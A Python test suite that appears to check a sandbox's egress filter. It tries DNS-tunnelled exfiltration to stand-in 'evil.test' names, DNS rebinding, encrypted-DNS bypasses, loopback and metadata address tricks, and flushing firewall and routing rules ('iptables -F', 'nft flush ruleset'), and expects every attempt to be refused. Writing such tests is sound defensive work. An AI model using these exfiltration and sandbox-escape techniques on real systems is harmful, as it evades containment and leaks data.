#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks by names, addresses and DNS messages; run inside a sandbox that may reach good.test."""
import socket
import struct
import subprocess
import time

from egress_try import check, dial, dial_tls, get, honest, kept_in, main, read_all, refused, request, talk, timed

RESOLVER = "198.18.0.1"
A, CNAME, NULL, MX, TXT, AAAA, SRV, HTTPS, AXFR, ANY = 1, 5, 10, 15, 16, 28, 33, 65, 252, 255
NOERROR, FORMERR, SERVFAIL, NXDOMAIN, NOTIMP, REFUSED = range(6)
CANARY = 8123  # on the host's loopback


def labels(*parts):
    return b"".join(bytes([len(p)]) + p for p in parts) + b"\0"


def name(text):
    return labels(*text.encode().split(b"."))


def message(wire, kind=A, flags=0x0100, counts=(1, 0, 0, 0), dns_class=1, tail=b""):
    return struct.pack("!HHHHHH", 0x4242, flags, *counts) + wire + struct.pack("!HH", kind, dns_class) + tail


def ask_udp(data, server=RESOLVER, port=53):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.connect((server, port))
        s.send(data)
        return s.recv(4096)


def ask_tcp(data, server=RESOLVER):
    with dial(server, 53) as s:
        s.sendall(struct.pack("!H", len(data)) + data)
        return read_all(s, lambda got: len(got) > 2 and len(got) >= 2 + struct.unpack("!H", got[:2])[0])[2:]


def outcome(reply):
    """(rcode, number of answers)"""
    flags, _, answers = struct.unpack("!HHH", reply[2:8])
    return flags & 15, answers


def try_ask(data, ask=ask_udp):
    try:
        return outcome(ask(data))
    except TimeoutError:
        return "silence"


def answers(title, data, *wanted, ask=ask_udp):
    def is_fine(got):
        return got in wanted or (got != "silence" and got[0] in wanted)

    got, took = timed(lambda: try_ask(data, ask), lambda r: r == "silence" or not is_fine(r), 1)
    fine = is_fine(got)
    check(f"{title}: {got} in {took * 1000:.0f} ms", fine and (took < 1 or got == "silence"), f"wanted {wanted}")


def classes(*names):
    """Allowed names that lead to addresses that are not public."""
    honest("a public address", get, "good.test", 80, "/page")
    for n in names:
        refused(n, get, n, 80, "/page")


def several(*names):
    for n in names:
        honest(f"{n} has a public address too", get, n, 80, "/page")


def rebind(first, turned, back):
    """Looked up, and connected to when the answer has changed and no cache has the old one.
    Of the names in `turned` the new address is not public; of those in `back` it is, and the
    first was not."""
    turned, back = turned.split(","), back.split(",")
    given = {n: socket.getaddrinfo(n, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0] for n in turned + back}
    honest("before: " + first, get, first, 80, "/page")
    for n in back:
        refused("before: " + n, raw_connect, socket.AF_INET, given[n], 80)
    time.sleep(5.3)
    for n in turned:
        refused("after: " + n, raw_connect, socket.AF_INET, given[n], 80)
    for n in back:
        honest("after: " + n, raw_connect, socket.AF_INET, given[n], 80, n)


def odd():
    """Names that are none, or look like another."""
    answers("control, plain", message(name("odd.test")), (NOERROR, 1))
    answers("control, mixed case", message(name("oDd.TeSt")), (NOERROR, 1))
    answers("a NUL in a label", message(labels(b"odd\0", b"test")), NXDOMAIN, FORMERR)
    answers("a NUL and another name", message(labels(b"evil", b"test\0good", b"test")), NXDOMAIN, FORMERR)
    answers("a dot in a label", message(labels(b"odd.test")), NXDOMAIN, FORMERR)
    answers("a dot after a label", message(labels(b"odd", b"test.")), NXDOMAIN, FORMERR)
    answers("a space", message(labels(b"odd ", b"test")), NXDOMAIN, FORMERR)
    answers("a slash", message(labels(b"odd/", b"test")), NXDOMAIN, FORMERR)
    answers("Cyrillic letters", message(labels("оdd".encode(), b"test")), NXDOMAIN, FORMERR)
    answers("the same as an A-label", message(labels("оdd".encode("idna"), b"test")), (NXDOMAIN, 0))
    answers("fullwidth letters", message(labels("ｏdd".encode(), b"test")), NXDOMAIN, FORMERR)
    answers("a label of 63", message(labels(b"a" * 63, b"test")), (NXDOMAIN, 0))
    answers("a label of 64", message(bytes([64]) + b"a" * 64 + b"\0"), FORMERR, "silence")
    answers("a name of 256", message(labels(*[b"a" * 50] * 5)), FORMERR, NXDOMAIN)
    answers("the root", message(b"\0"), NXDOMAIN, FORMERR, (NOERROR, 0))
    answers("a pointer to itself", message(b"\xc0\x0c"), FORMERR)
    answers("a pointer behind the end", message(b"\xc0\xff"), FORMERR)
    answers("an address as a name", message(name("10.1.2.3")), NXDOMAIN, FORMERR)
    answers("below the allowed name", message(name("a.odd.test")), (NXDOMAIN, 0))
    answers("the allowed name as a prefix", message(name("odd.test.evil.test")), (NXDOMAIN, 0))
    answers("the allowed name as a suffix", message(name("xodd.test")), (NXDOMAIN, 0))
    answers("two questions", message(name("odd.test"), counts=(2, 0, 0, 0), tail=name("evil.test") + b"\0\1\0\1"), FORMERR)
    answers("an answer in the question", message(name("odd.test"), counts=(1, 1, 0, 0)), FORMERR)
    answers("bytes behind the end", message(name("odd.test"), tail=b"exfil-tail"), FORMERR)
    answers("an update", message(name("odd.test"), flags=0x2800), NOTIMP)
    answers("class CHAOS", message(name("odd.test"), dns_class=3), REFUSED)
    answers("a transfer", message(name("odd.test"), AXFR), REFUSED)
    answers("a response", message(name("odd.test"), flags=0x8180), "silence")
    answers("half a header", b"\0\1\1\0", "silence")
    answers("control, still there", message(name("odd.test")), (NOERROR, 1))


def exfiltrate():
    """Data in questions: nothing of it may leave. The marker is exfil."""
    answers("control", message(name("leak.test")), (NOERROR, 1))
    for kind in (A, AAAA, CNAME, NULL, MX, TXT, SRV, HTTPS, ANY):
        answers(f"label, type {kind}", message(name("exfil-label.evil.test"), kind), (NXDOMAIN, 0))
        answers(f"below an allowed name, type {kind}", message(name("exfil-below.leak.test"), kind), (NXDOMAIN, 0))
    for kind in (CNAME, NULL, MX, TXT, SRV, HTTPS, ANY):
        answers(f"allowed name, type {kind}", message(name("leak.test"), kind), (NOERROR, 0), (NOTIMP, 0), (REFUSED, 0))
    option = struct.pack("!HH", 65001, 10) + b"exfil-edns"
    edns = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
    answers("an EDNS option", message(name("leak.test"), counts=(1, 0, 0, 1), tail=edns), NOERROR)
    extra = name("exfil-extra.evil.test") + struct.pack("!HHIH", TXT, 1, 0, 6) + b"\5exfil"
    answers("an additional record", message(name("leak.test"), counts=(1, 0, 0, 1), tail=extra), NOERROR, FORMERR)
    for server in ("45.45.0.2", "8.8.8.8", "2a00:45::1"):
        answers(f"UDP to {server}", message(name("exfil-udp.evil.test"), TXT), (NXDOMAIN, 0), ask=lambda d, s=server: ask_udp(d, s))
        answers(f"TCP to {server}", message(name("exfil-tcp.evil.test"), TXT), (NXDOMAIN, 0), ask=lambda d, s=server: ask_tcp(d, s))
    answers("control over TCP", message(name("leak.test")), (NOERROR, 1), ask=ask_tcp)
    refused("something else on TCP 53", lambda: talk(dial("45.45.0.2", 53), b"GET /exfil HTTP/1.1\r\nHost: x\r\n\r\n"))
    refused("another UDP port", ask_udp, message(name("exfil-5353.evil.test"), TXT), "45.45.0.1", 5353)


def encrypted_dns():
    """DoT and DoH are connections like any other."""
    honest("TLS to the allowed name", lambda: read_tls("good.test", 443, "/dns-query"))
    for host in ("45.45.0.1", "2a00:45::1"):
        refused(f"DoT to {host}", read_tls, host, 853)
        refused(f"DoH to {host}", read_tls, host, 443, "/dns-query?dns=exfil")
    refused("DoT by name", read_tls, "other.test", 853)
    refused("DoH by name", read_tls, "other.test", 443, "/dns-query?dns=exfil")


def read_tls(host, port, path="/"):
    with dial_tls(host, port, verify=False) as s:
        return talk(s, request(host, port, path))


def raw_connect(family, address, port, host="good.test", kind=socket.SOCK_STREAM, protocol=0):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(3)
        s.connect(address if isinstance(address, tuple) else (address, port))
        return talk(s, request(host, port, "/page"))


def fast_open(address):
    with socket.socket() as s:
        s.settimeout(3)
        s.sendto(b"GET /page HTTP/1.1\r\nHost: good.test\r\n\r\n", 0x20000000, (address, 80))
        return read_all(s)


def addresses(host_address, host_address6):
    """Connects to addresses that nobody gave out."""
    v4, v6 = socket.AF_INET, socket.AF_INET6
    given = socket.getaddrinfo("good.test", 80, v4, socket.SOCK_STREAM)[0][4][0]
    honest("the address of the name", raw_connect, v4, given, 80)
    honest("the same, mapped", raw_connect, v6, "::ffff:" + given, 80)
    for a in ("45.45.0.1", "10.1.2.3", "169.254.169.254", host_address, "255.255.255.255", "224.0.0.1", "240.0.0.1"):
        refused(a, raw_connect, v4, a, 80)
        refused(a + " mapped", raw_connect, v6, "::ffff:" + a, 80)
        refused(a + " by NAT64", raw_connect, v6, "64:ff9b::" + a, 80)
    for a in ("2a00:45::1", host_address6, "fd00::1", "ff02::1", "2002:2d2d:1::1", "::45.45.0.1"):
        refused(a, raw_connect, v6, a, 80)
    refused("fast open", fast_open, "45.45.0.1")
    refused("MPTCP", raw_connect, v4, "45.45.0.1", 80, "good.test", socket.SOCK_STREAM, 262)
    refused("SCTP", raw_connect, v4, "45.45.0.1", 80, "good.test", socket.SOCK_STREAM, 132)
    refused("DCCP", raw_connect, v4, "45.45.0.1", 80, "good.test", 6, 33)
    refused("UDP-Lite", raw_connect, v4, "45.45.0.1", 80, "good.test", socket.SOCK_DGRAM, 136)
    refused("raw", raw_connect, v4, "45.45.0.1", 80, "good.test", socket.SOCK_RAW, 6)
    for a in ("198.18.0.0", "198.18.0.1", "198.18.7.7", "198.19.255.255"):
        refused("nobody has " + a, raw_connect, v4, a, 80)
    for a in ("fd63:6f76:65::", "fd63:6f76:65::7:7", "fd63:6f76:65:0:1::100", "fd63:6f76:65::ffff:ffff"):
        refused("nobody has " + a, raw_connect, v6, a, 80)


def with_options(family, where, options, source=None):
    """A connect with socket options, as many of them as can be set, and from an address."""
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        for level, option, value in options:
            try:
                s.setsockopt(level, option, value)
            except OSError:
                pass
        if source:
            s.bind(source)
        s.connect(where)
        return talk(s, request("good.test", 80, "/page"))


def run(*command):
    try:
        return subprocess.run(command, capture_output=True, timeout=5, check=False).returncode
    except OSError:
        return 127


def privileges():
    """With all that root of the sandbox can do to its own network."""
    v4, where = socket.AF_INET, ("45.45.0.1", 80)
    for mark in (1, 2, 3, 4, 7, 8, 16, 0x100, 0xC0, 0x10000, 0xFFFFFFFF):
        refused(f"mark {mark:#x}", with_options, v4, where, [(socket.SOL_SOCKET, 36, mark & 0x7FFFFFFF)])
    refused("transparent", with_options, v4, where, [(socket.SOL_IP, 19, 1)])
    refused("no route", with_options, v4, where, [(socket.SOL_SOCKET, 5, 1)])
    refused("bound to lo", with_options, v4, where, [(socket.SOL_SOCKET, 25, b"lo\0")])
    kept_in("source route", with_options, v4, where, [(socket.SOL_IP, 4, b"\x83\x07\x04\x0a\x01\x02\x03\0")])
    for source in ("127.255.255.254", "45.45.0.254", "198.18.0.1", "45.45.0.1", "127.0.0.1"):
        options = [(socket.SOL_IP, 15, 1), (socket.SOL_IP, 19, 1)]
        refused("from " + source, with_options, v4, where, options, (source, 0))
        refused(f"from {source} port 1", with_options, v4, where, options, (source, 1))
    for command in ("ip route flush table all", "ip -6 route flush table all", "ip rule flush", "nft flush ruleset", "iptables -F",
                    "ip link add cove9 type dummy", "ip link add cove9 type veth peer name cove8 netns 1",
                    "ip link set lo netns 1", "sysctl -w net.ipv4.ip_forward=1"):
        print(f"{command}: {run(*command.split())}")
        refused(f"after {command!r}", raw_connect, v4, "45.45.0.1", 80)
    # Whether any of this has cut the sandbox off is its own affair; it may not have got further.


def scopes():
    index = socket.if_nametoindex("lo")
    for zone in (0, index, 4242):
        for a in ("fe80::1", "ff02::1", "fec0::1"):
            refused(f"{a}%{zone}", raw_connect, socket.AF_INET6, (a, 80, 0, zone), 80)
    for text in ("fe80::1%lo", "fe80::1%eth0", "::1%lo", "127.0.0.1%lo", "good.test%lo"):
        refused(text, lambda t=text: get(t, CANARY))
    honest("the name", get, "good.test", 80, "/page")


def listeners():
    """The sockets that take what is captured."""
    for family, a in ((socket.AF_INET, "127.255.255.254"), (socket.AF_INET6, "::1"), (socket.AF_INET, "127.0.0.1"),
                      (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::"), (socket.AF_INET6, "::ffff:127.255.255.254")):
        for port in (1, 53):
            refused(f"{a} port {port}", raw_connect, family, a, port)
    honest("the name", get, "good.test", 80, "/page")


def loopback():
    """The host's loopback, where a canary listens."""
    for a in ("127.0.0.1", "127.1.2.3", "0.0.0.0", "localhost", "a.localhost", "2130706433", "0x7f.1", "017700000001"):
        refused(a, get, a, CANARY)
    for a in ("::1", "::", "::ffff:127.0.0.1", "::ffff:0:0"):
        refused(a, raw_connect, socket.AF_INET6, a, CANARY)
    refused("host.cove.internal", get, "host.cove.internal", CANARY)


def borrow(address4, address6):
    """Addresses that another sandbox was given for good.test, which this one may not reach."""
    refused(address4, raw_connect, socket.AF_INET, address4, 80)
    refused(address6, raw_connect, socket.AF_INET6, address6, 80)
    honest("its own name", get, "other.test", 80, "/page")


def given():
    for family in (socket.AF_INET, socket.AF_INET6):
        print(socket.getaddrinfo("good.test", 80, family, socket.SOCK_STREAM)[0][4][0])


def serve(port):
    """On every address of this sandbox; says when it does."""
    s = socket.create_server(("", int(port)), family=socket.AF_INET6, dualstack_ipv6=True)
    print("ready", flush=True)
    s.settimeout(60)
    while True:
        c, _ = s.accept()
        c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nUPSTREAM")
        c.close()


def neighbour(port, own):
    """The loopback of another sandbox."""
    for a in ("127.0.0.1", "::1", "0.0.0.0", "localhost"):
        (honest if own == "own" else refused)(a, get, a, int(port))


main(globals())
